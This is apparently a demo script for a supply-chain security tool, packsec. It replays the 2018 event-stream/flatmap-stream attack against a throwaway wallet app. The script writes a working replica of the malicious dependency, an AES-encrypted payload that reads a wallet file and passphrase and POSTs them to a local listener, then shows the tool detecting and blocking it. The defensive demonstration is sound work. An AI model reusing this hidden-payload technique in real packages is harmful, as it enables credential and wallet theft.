#!/usr/bin/env node
// Replays the event-stream/flatmap-stream attack (2018) against a throwaway app, harmlessly:
// once under plain node (the wallet is stolen) and once under packsec (it is not).
import { spawnSync } from 'node:child_process';
import { createCipheriv, createHash, randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const repo = fileURLToPath(new URL('../../', import.meta.url));
const packsec = join(repo, 'bin', 'packsec.js');
const color = process.stdout.isTTY && !process.env.NO_COLOR;
const paint = (code) => (s) => (color ? `\x1b[${code}m${s}\x1b[0m` : s);
const bold = paint(1), red = paint(31), green = paint(32), dim = paint(2);

function write(file, text) {
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, typeof text === 'string' ? text : JSON.stringify(text, null, 2) + '\n');
}

// The listener stands in for the attacker's server: anything it receives was stolen.
const stolen = [];
const server = createServer((req, res) => {
  let body = '';
  req.on('data', (c) => (body += c));
  req.on('end', () => { stolen.push(body); res.end('ok'); });
});
await new Promise((r) => server.listen(0, '127.0.0.1', r));
const port = server.address().port;

const root = realpathSync(mkdtempSync(join(tmpdir(), 'packsec-demo-')));
const home = join(root, 'home');
const app = join(root, 'wallet-app');
const description = 'A Secure Bitcoin Wallet';
const walletSecret = 'WALLET-KEY-' + randomBytes(6).toString('hex');
const passphrase = 'PASSPHRASE-' + randomBytes(6).toString('hex');
write(join(home, '.wallet', 'wallet.dat'), walletSecret);

// ---- the app and event-stream@3.3.4 (benign)
write(join(app, 'package.json'), { name: 'wallet-app', version: '1.0.0', private: true, description, dependencies: { 'event-stream': '3.3.4' } });
write(join(app, 'app.js'), `const es = require('event-stream');
const out = [];
es.fromArray([1, 2, 3]).pipe(es.map((x) => x * 2)).on('data', (x) => out.push(x)).on('end', () => {
  setTimeout(() => console.log('wallet-app: balance computed from', out.join(','), '— done'), 300);
});
`);
const esV1 = `// event-stream@3.3.4 (replica): tiny stream helpers
const { Readable, Transform } = require('stream');
exports.fromArray = (items) => Readable.from(items);
exports.map = (fn) => new Transform({ objectMode: true, transform(x, _e, cb) { cb(null, fn(x)); } });
`;
write(join(app, 'node_modules', 'event-stream', 'package.json'), { name: 'event-stream', version: '3.3.4', main: 'index.js', dependencies: {} });
write(join(app, 'node_modules', 'event-stream', 'index.js'), esV1);

function run(cmd, args, extraEnv = {}) {
  const env = { ...process.env, HOME: home, WALLET_PASSPHRASE: passphrase, npm_package_description: description, NO_COLOR: '1', ...extraEnv };
  return spawnSync(cmd, args, { cwd: app, env, encoding: 'utf8', timeout: 60_000 });
}

console.log(bold('\n1. Day one: wallet-app depends on event-stream@3.3.4. The team runs `packsec init` and commits the policy.'));
const init = run(process.execPath, [packsec, 'init']);
if (init.status !== 0) { console.error(init.stderr); process.exit(1); }
const policyBefore = readFileSync(join(app, 'packsec.policy.json'), 'utf8');
const lockBefore = readFileSync(join(app, 'packsec.lock.json'), 'utf8');
console.log(dim(init.stderr.trim().split('\n').map((l) => '   ' + l).join('\n')));

// ---- the update: event-stream@3.3.6 pulls in flatmap-stream@0.1.1 with an encrypted payload
const payload = `var fs = require('fs'), http = require('http'), path = require('path');
var wallet = fs.readFileSync(path.join(process.env.HOME, '.wallet', 'wallet.dat'), 'utf8');
var body = JSON.stringify({ wallet: wallet, passphrase: process.env.WALLET_PASSPHRASE });
var req = http.request({ host: '127.0.0.1', port: ${port}, method: 'POST', path: '/collect' });
req.on('error', function () {}); req.end(body);`;
const key = createHash('sha256').update(description).digest();
const iv = randomBytes(16);
const cipher = createCipheriv('aes-256-cbc', key, iv);
const encrypted = Buffer.concat([cipher.update(payload, 'utf8'), cipher.final()]).toString('hex');
const flatmap = `// flatmap-stream@0.1.1 (replica)
const { Transform } = require('stream');
module.exports = (fn) => new Transform({ objectMode: true, transform(x, _e, cb) { for (const y of fn(x)) this.push(y); cb(); } });
!function () { try {
  var r = require, t = process;
  var key = r('crypto').createHash('sha256').update(t.env.npm_package_description || '').digest();
  var d = r('crypto').createDecipheriv('aes-256-cbc', key, Buffer.from('${iv.toString('hex')}', 'hex'));
  var code = d.update('${encrypted}', 'hex', 'utf8') + d.final('utf8');
  var m = new module.constructor(); m.paths = module.paths; m._compile(code, '');
} catch (e) {} }();
`;
write(join(app, 'node_modules', 'event-stream', 'package.json'), { name: 'event-stream', version: '3.3.6', main: 'index.js', dependencies: { 'flatmap-stream': '0.1.1' } });
write(join(app, 'node_modules', 'event-stream', 'index.js'), esV1 + `exports.flatMap = require('flatmap-stream');\n`);
write(join(app, 'node_modules', 'flatmap-stream', 'package.json'), { name: 'flatmap-stream', version: '0.1.1', main: 'index.min.js' });
write(join(app, 'node_modules', 'flatmap-stream', 'index.min.js'), flatmap);
console.log(bold('\n2. Two months later: `npm update` brings event-stream@3.3.6, which adds flatmap-stream@0.1.1.'));

console.log(bold('\n3. Under plain node:'));
const plain = run(process.execPath, ['app.js']);
await new Promise((r) => setTimeout(r, 300));
console.log('   ' + plain.stdout.trim());
const plainStole = stolen.some((s) => s.includes(walletSecret));
console.log(plainStole ? red(`   the attacker's server received: ${stolen.join(' ')}`) : '   (nothing was received)');
stolen.length = 0;

console.log(bold('\n4. What packsec sees: the capability diff of the update against the committed policy.'));
const diff = run(process.execPath, [packsec, 'init', '--json']);
const data = JSON.parse(diff.stdout || '{}');
for (const name of data.changes?.added ?? []) console.log(red(`   + new package ${name}`));
for (const ch of data.changes?.changed ?? []) for (const g of ch.gained) console.log(red(`   ${ch.name} gained ${g}`));
const explain = run(process.execPath, [packsec, 'explain', 'flatmap-stream']);
console.log(dim(explain.stderr.trim().split('\n').map((l) => '   ' + l).join('\n')));
const flagged = (data.changes?.added ?? []).includes('flatmap-stream');

// Step 4 only looked: the committed policy and lock are still the ones from day one.
write(join(app, 'packsec.policy.json'), policyBefore);
write(join(app, 'packsec.lock.json'), lockBefore);
console.log(bold('\n5. `npsx app.js` (packsec run) with the policy and lock from day one: the updated package is refused before it runs.'));
const refused = run(process.execPath, [packsec, 'run', 'app.js']);
console.log(refused.stderr.split('\n').filter((l) => l.startsWith('packsec:')).map((l) => '   ' + red(l)).join('\n'));

// Then the team accepts the update the usual way: re-run init, which can only see what is in plain sight.
console.log(bold('\n6. The team accepts the update (`packsec init` again) and runs `npsx app.js`:'));
run(process.execPath, [packsec, 'init']);
const contained = run(process.execPath, [packsec, 'run', 'app.js']);
await new Promise((r) => setTimeout(r, 300));
console.log('   ' + contained.stdout.trim());
console.log(contained.stderr.split('\n').filter((l) => l.startsWith('packsec:')).map((l) => '   ' + red(l)).join('\n'));
const containedStole = stolen.some((s) => s.includes(walletSecret) || s.includes(passphrase));
const appRan = contained.status === 0 && contained.stdout.includes('done');

server.close();
rmSync(root, { recursive: true, force: true });
console.log(bold('\nResult:'));
console.log(`   plain node: ${plainStole ? red('wallet stolen') : 'nothing stolen'}`);
console.log(`   packsec:    ${flagged ? green('the update is flagged before it runs: new package flatmap-stream, with the capabilities and warnings above') : red('not flagged')}`);
console.log(`   npsx:       ${containedStole ? red('wallet stolen') : green(`nothing stolen: the hidden payload was denied at run time${appRan ? ', and the app still works' : ''}`)}`);
process.exit(plainStole && flagged && !containedStole && appRan ? 0 : 1);
